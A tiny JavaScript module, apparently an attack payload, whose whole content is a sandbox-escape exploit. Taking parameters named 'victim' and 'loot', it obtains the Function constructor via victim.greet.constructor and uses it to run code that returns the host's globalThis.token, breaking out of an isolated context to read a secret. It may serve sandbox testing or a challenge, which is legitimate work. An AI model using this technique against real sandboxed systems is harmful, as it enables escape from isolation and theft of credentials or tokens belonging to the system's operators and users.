module.exports = (victim, loot) => {
  const C = victim.greet.constructor;
  return new C('return globalThis.token')();
};
